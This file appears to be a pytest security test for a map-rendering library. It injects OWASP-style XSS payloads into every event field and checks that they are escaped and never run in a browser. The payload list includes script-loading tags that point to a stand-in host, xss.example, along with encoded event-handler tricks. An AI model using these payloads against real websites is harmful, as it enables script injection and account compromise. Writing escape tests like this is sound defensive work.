"""Hostile text in every field of a map: escaped, and nothing executes in Chromium.

Payloads follow the OWASP XSS filter-evasion cheat sheet, each rewritten to call
``alert`` (caught as a dialog) or to set ``window.__xss`` (checked afterwards).
"""

import datetime as dt

import pytest

from geoevents.events import Event
from geoevents.maps import event_map, save_map

PAYLOADS = [
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    "&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "\"><script>window.__xss=1</script>",
    "';alert(String.fromCharCode(88,83,83))//';alert(String.fromCharCode(88,83,83))//",
    "</script><script>window.__xss=1</script>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]


def _events():
    out = []
    for i, p in enumerate(PAYLOADS):
        out.append(Event(
            f"x{i}", event_date=dt.date(2023, 12, 1 + i % 28), event_type=p[:40],
            sub_event_type=p, actor1=p, actor2=p, location=p, notes=p, source=p,
            source_url="javascript:alert(1)", sentence=p, mention=p[:10],
            latitude=30.0 + i * 0.1, longitude=40.0 + i * 0.1, precision="town"))
    return out


def test_payloads_are_escaped_in_the_html():
    html = event_map(_events(), offline=True, title=PAYLOADS[0]).get_root().render()
    for p in PAYLOADS:
        assert p not in html, p  # never verbatim: always escaped
    assert "javascript:alert(1)\"" not in html


@pytest.mark.browser
def test_no_payload_executes_in_chromium(tmp_path, open_page):
    path = tmp_path / "hostile.html"
    save_map(event_map(_events(), offline=True, title=PAYLOADS[0]), path)
    dialogs = []
    p = open_page(path)
    p.page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    G = "window.geoevents[Object.keys(window.geoevents)[0]]"
    assert p.js(f"{G}.total") == len(PAYLOADS)
    # open every popup and hover every tooltip
    for k in range(len(PAYLOADS)):
        p.js(f"(() => {{ const G = {G}; let n = {k};"
             " for (const l of G.layers) { if (n < l.markers.length) {"
             " const m = l.markers[n]; l.group.fire('click', {layer: m, latlng: m.getLatLng()});"
             " l.group.fire('mouseover', {layer: m, latlng: m.getLatLng()}); return; }"
             " n -= l.markers.length; } })()")
    p.page.wait_for_timeout(300)
    assert p.js("window.__xss") is None
    assert dialogs == []
    assert p.outside_requests == []
    assert p.errors == []
    assert PAYLOADS[0] in p.js("document.querySelector('.ge-titlebar').textContent")
